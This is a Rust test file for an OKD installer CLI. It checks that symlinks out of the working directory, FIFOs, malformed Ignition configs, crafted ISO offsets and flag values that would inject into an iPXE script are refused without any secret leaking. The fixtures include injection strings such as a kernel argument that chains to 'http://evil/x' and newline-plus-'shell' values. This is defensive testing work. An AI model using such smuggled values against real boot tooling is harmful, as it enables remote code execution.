//! Hostile and careless input against the real binary: each class of input the tool must
//! refuse (a config that is not Ignition, a link out of DIR, a FIFO, a crafted ISO area, a
//! flag that would add a line to a script) gets exit code 3, one clear line, no output
//! file, and never the content of a file it should not have read.

use std::path::{Path, PathBuf};

use testkit::liveiso::LiveIsoSpec;

use crate::common::{EPOCH, Run, create_at, run};
use crate::support::okd;

/// A secret-looking line that must never show up on the console or in the log.
const SECRET: &str = "root:$6$hostile-secret-hash$:19000:0:99999:7:::";

/// Ignition configs of the compact example in `tmp/cluster`.
fn cluster(tmp: &Path) -> PathBuf {
    let dir = tmp.join("cluster");
    create_at(
        &dir,
        EPOCH,
        &["ignition-configs", "--from-example", "compact-3-node"],
    )
    .ok("ignition configs");
    dir
}

/// A file outside the cluster directory holding [`SECRET`].
fn outside_secret(tmp: &Path) -> PathBuf {
    let path = tmp.join("shadow");
    std::fs::write(&path, format!("{SECRET}\n")).unwrap();
    path
}

fn okd_in(dir: &Path, args: &[&str]) -> Run {
    run(okd(dir), args)
}

/// The run was refused as bad input (exit 3) with every one of `needles` on the console,
/// and neither the console nor the log holds [`SECRET`].
fn refused(dir: &Path, out: Run, needles: &[&str]) {
    let out = out.expect_code(3, "hostile input");
    out.stderr_has(needles);
    let log = std::fs::read_to_string(dir.join(".okd-install.log")).unwrap_or_default();
    for text in [&out.stdout, &out.stderr, &log] {
        assert!(
            !text.contains("hostile-secret-hash"),
            "secret echoed:\n{text}"
        );
    }
}

/// A case of a medium test: what it is, how to spoil the config, what the refusal says.
type MediaCase<'a> = (&'a str, &'a dyn Fn(), &'a [&'a str]);

/// A case of an install-config test: what it is, how to write the file, what the refusal
/// says.
type ConfigCase<'a> = (&'a str, Box<dyn FnOnce(&Path) + 'a>, &'a [&'a str]);

fn mkfifo(path: &Path) {
    let made = std::process::Command::new("mkfifo")
        .arg(path)
        .status()
        .unwrap();
    assert!(made.success());
}

const PXE: [&str; 6] = [
    "create",
    "pxe-files",
    "--role",
    "worker",
    "--base-url",
    "http://pxe.example/okd",
];

/// `create pxe-files` packs only a config that is Ignition and passes verify's rules, read
/// from DIR itself: an empty file, `{not json`, a link to a file outside DIR and a FIFO are
/// each refused with one line, and no medium is written.
#[test]
fn boot_media_refuse_configs_that_are_not_ignition_or_not_in_dir() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = cluster(tmp.path());
    let ign = dir.join("worker.ign");
    let good = std::fs::read(&ign).unwrap();
    let secret = outside_secret(tmp.path());
    let cases: [MediaCase; 5] = [
        (
            "empty",
            &|| std::fs::write(&ign, "").unwrap(),
            &["worker.ign is empty"],
        ),
        (
            "not json",
            &|| std::fs::write(&ign, "{not json").unwrap(),
            &["worker.ign is not a valid Ignition config"],
        ),
        (
            "a rule broken",
            &|| {
                std::fs::write(
                    &ign,
                    r#"{"ignition":{"version":"3.2.0"},"storage":{"files":[{"path":"etc/x"}]}}"#,
                )
                .unwrap()
            },
            &["storage.files[0].path", "is not absolute"],
        ),
        (
            "a link out of DIR",
            &|| std::os::unix::fs::symlink(&secret, &ign).unwrap(),
            &["worker.ign is a symbolic link to", "outside"],
        ),
        (
            "a FIFO",
            &|| mkfifo(&ign),
            &["worker.ign is a named pipe (FIFO)"],
        ),
    ];
    for (what, make, needles) in cases {
        let _ = std::fs::remove_file(&ign);
        make();
        refused(&dir, okd_in(&dir, &PXE), needles);
        assert!(
            !dir.join("worker.ign.img").exists(),
            "{what}: no config image"
        );
        assert!(!dir.join("worker.ipxe").exists(), "{what}: no script");
    }
    std::fs::remove_file(&ign).unwrap();
    std::fs::write(&ign, good).unwrap();
    okd_in(&dir, &PXE).ok("the real config");
}

/// No flag of `create pxe-files` can add a line (or a word) to ROLE.ipxe, and the base URL
/// must be http(s).
#[test]
fn pxe_flags_cannot_inject_into_the_script() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = cluster(tmp.path());
    let with = |flags: &[&str]| -> Vec<String> {
        let mut args: Vec<String> = ["create", "pxe-files", "--role", "worker"]
            .map(String::from)
            .to_vec();
        args.extend(flags.iter().map(|s| s.to_string()));
        args
    };
    let cases: [(&[&str], &str); 7] = [
        (
            &["--base-url", "file:///srv/okd"],
            "is not an http or https URL",
        ),
        (&["--base-url", "not a url"], "is not an http or https URL"),
        (
            &["--base-url", "http://pxe/okd\nshell"],
            "is not an http or https URL",
        ),
        (
            &[
                "--base-url",
                "http://pxe/okd",
                "--karg",
                "quiet\nchain http://evil/x",
            ],
            "--karg",
        ),
        (
            &[
                "--base-url",
                "http://pxe/okd",
                "--karg",
                "a\u{1b}]0;owned\u{7}",
            ],
            "--karg",
        ),
        (
            &[
                "--base-url",
                "http://pxe/okd",
                "--dest-device",
                "/dev/sda\nshell",
            ],
            "--dest-device",
        ),
        (
            &[
                "--config-url",
                "http://pxe/w.img\nshell",
                "--kernel-url",
                "k",
                "--initramfs-url",
                "i",
                "--rootfs-url",
                "http://pxe/r",
            ],
            "--config-url",
        ),
    ];
    for (flags, needle) in cases {
        let args = with(flags);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let out = okd_in(&dir, &args).expect_code(3, needle);
        out.stderr_has(&[needle]);
        assert!(
            !out.stderr.contains('\u{1b}'),
            "a control character reached the console: {:?}",
            out.stderr
        );
        assert!(!dir.join("worker.ipxe").exists(), "{flags:?}: no script");
        assert!(!dir.join("worker.ign.img").exists(), "{flags:?}: no image");
    }
}

/// A live ISO whose igninfo.json or kargs.json names an area outside its file (an offset
/// that wraps, or one past the end) is refused naming the file and the field; no ISO is
/// written and the input is unchanged.
#[test]
fn live_isos_with_crafted_areas_are_refused() {
    if !testkit::require_tool("xorriso", "xorriso") {
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let dir = cluster(tmp.path());
    let specs = [
        (
            LiveIsoSpec {
                igninfo: Some(format!(
                    r#"{{"file": "images/ignition.img", "offset": {}, "length": 4096}}"#,
                    u64::MAX - 100
                )),
                ..LiveIsoSpec::default()
            },
            "/coreos/igninfo.json's offset and length",
        ),
        (
            LiveIsoSpec {
                kargs_offset: Some(u64::MAX - 10),
                ..LiveIsoSpec::default()
            },
            "/coreos/kargs.json's `offset`",
        ),
    ];
    for (spec, needle) in specs {
        let iso = spec.build(tmp.path(), "live.iso");
        let before = std::fs::read(&iso.path).unwrap();
        let args = [
            "create",
            "live-iso",
            "--role",
            "worker",
            "--iso",
            iso.path.to_str().unwrap(),
        ];
        refused(
            &dir,
            okd_in(&dir, &args),
            &[needle, "is not a CoreOS live ISO"],
        );
        assert!(!dir.join("worker.iso").exists());
        assert_eq!(std::fs::read(&iso.path).unwrap(), before);
    }
    // A FIFO given as --iso is refused at once instead of blocking.
    let fifo = tmp.path().join("fifo.iso");
    mkfifo(&fifo);
    let args = [
        "create",
        "live-iso",
        "--role",
        "worker",
        "--iso",
        fifo.to_str().unwrap(),
    ];
    refused(
        &dir,
        okd_in(&dir, &args),
        &["fifo.iso is a named pipe (FIFO)"],
    );
}

/// Runs `create manifests` in a fresh `tmp/c` whose install-config.yaml `make` puts there.
fn create_manifests_with(tmp: &Path, make: impl FnOnce(&Path)) -> (PathBuf, Run) {
    let dir = tmp.join("c");
    std::fs::create_dir_all(&dir).unwrap();
    make(&dir.join("install-config.yaml"));
    let out = okd_in(&dir, &["create", "manifests"]);
    (dir, out)
}

/// install-config.yaml that is a link out of DIR, a FIFO, or that holds a secret in the
/// wrong type: refused with one line, the secret nowhere on the console or in the log, and
/// no state file (no key) written.
#[test]
fn install_config_inputs_are_data_and_secrets_stay_out_of_messages() {
    let tmp = tempfile::tempdir().unwrap();
    let secret = outside_secret(tmp.path());
    let example =
        std::fs::read_to_string(crate::support::repo_root().join("examples/ha-workers.yaml"))
            .unwrap();
    let cases: [ConfigCase; 4] = [
        (
            "a link out of DIR",
            Box::new(|p: &Path| std::os::unix::fs::symlink(&secret, p).unwrap()),
            &["install-config.yaml is a symbolic link to", "outside"],
        ),
        (
            "a FIFO",
            Box::new(|p: &Path| mkfifo(p)),
            &["named pipe (FIFO)"],
        ),
        (
            "a numeric vCenter password",
            Box::new(|p: &Path| {
                let text =
                    example.replace("password: not-a-real-password", "password: 86753091234");
                std::fs::write(p, text).unwrap()
            }),
            &["vcenters[0].password"],
        ),
        (
            "a pull-secret auth that is not user:password",
            Box::new(|p: &Path| {
                let start = example.find("pullSecret:").unwrap();
                let end = start + example[start..].find('\n').unwrap();
                let line = r#"pullSecret: '{"auths":{"quay.io":{"auth":"hostile-secret-hash"}}}'"#;
                std::fs::write(p, format!("{}{line}{}", &example[..start], &example[end..]))
                    .unwrap()
            }),
            &["pullSecret", "not the base64 encoding of user:password"],
        ),
    ];
    for (i, (what, make, needles)) in cases.into_iter().enumerate() {
        let case = tmp.path().join(format!("case{i}"));
        let (dir, out) = create_manifests_with(&case, make);
        assert!(
            !out.stderr.contains("86753091234"),
            "{what}: {}",
            out.stderr
        );
        refused(&dir, out, needles);
        let log = std::fs::read_to_string(dir.join(".okd-install.log")).unwrap_or_default();
        assert!(!log.contains("86753091234"), "{what}: {log}");
        assert!(
            !dir.join(".okd-install-state.json").exists(),
            "{what}: a run stopped by invalid input writes no state"
        );
        assert!(!dir.join("manifests").exists(), "{what}");
    }
}

/// The log is never appended through a link: a `.okd-install.log` linked to a file outside
/// DIR stops the run and leaves that file as it was.
#[test]
fn the_log_is_not_written_through_a_link() {
    let tmp = tempfile::tempdir().unwrap();
    let victim = tmp.path().join("victim");
    std::fs::write(&victim, "untouched\n").unwrap();
    let dir = tmp.path().join("c");
    std::fs::create_dir_all(&dir).unwrap();
    std::os::unix::fs::symlink(&victim, dir.join(".okd-install.log")).unwrap();
    let out = okd_in(
        &dir,
        &["create", "install-config", "--from-example", "single-node"],
    );
    assert_ne!(out.code, 0, "{}", out.stderr);
    out.stderr_has(&[".okd-install.log is a symbolic link"]);
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "untouched\n");
}

/// Every manifest that holds a Secret is 0600 inside bootstrap.ign (the generated ones and
/// the user's own), and the user's own Secret manifest in manifests/ becomes 0600 on disk.
#[test]
fn secret_manifests_are_private_on_disk_and_on_the_bootstrap_host() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("cluster");
    create_at(
        &dir,
        EPOCH,
        &["manifests", "--from-example", "compact-3-node"],
    )
    .ok("manifests");
    let mine = dir.join("manifests/my-credentials.yaml");
    std::fs::write(
        &mine,
        "apiVersion: v1\nkind: Secret\nmetadata:\n  name: my-credentials\n  namespace: default\nstringData:\n  token: hostile-secret-hash\n",
    )
    .unwrap();
    std::fs::set_permissions(&mine, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    create_at(&dir, EPOCH, &["ignition-configs"]).ok("ignition configs");
    assert_eq!(
        crate::common::mode(&mine) & 0o777,
        0o600,
        "the user's Secret manifest"
    );
    let ign: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(dir.join("bootstrap.ign")).unwrap()).unwrap();
    let files = ign["storage"]["files"].as_array().unwrap();
    let mode_of = |path: &str| {
        files
            .iter()
            .find(|f| f["path"] == path)
            .unwrap_or_else(|| panic!("{path} not in bootstrap.ign"))["mode"]
            .as_u64()
            .unwrap()
    };
    assert_eq!(
        mode_of("/opt/openshift/manifests/my-credentials.yaml"),
        0o600
    );
    let mut secrets = 0;
    for f in files {
        let path = f["path"].as_str().unwrap();
        if !(path.starts_with("/opt/openshift/manifests/")
            || path.starts_with("/opt/openshift/openshift/"))
        {
            continue;
        }
        let text = crate::support::ign_text(
            &std::fs::read_to_string(dir.join("bootstrap.ign")).unwrap(),
            path,
        );
        let is_secret = text.contains("kind: Secret") && text.contains("apiVersion: v1");
        if is_secret {
            secrets += 1;
            assert_eq!(f["mode"].as_u64(), Some(0o600), "{path} holds a Secret");
        }
    }
    assert!(secrets >= 3, "only {secrets} Secret manifests found");
}
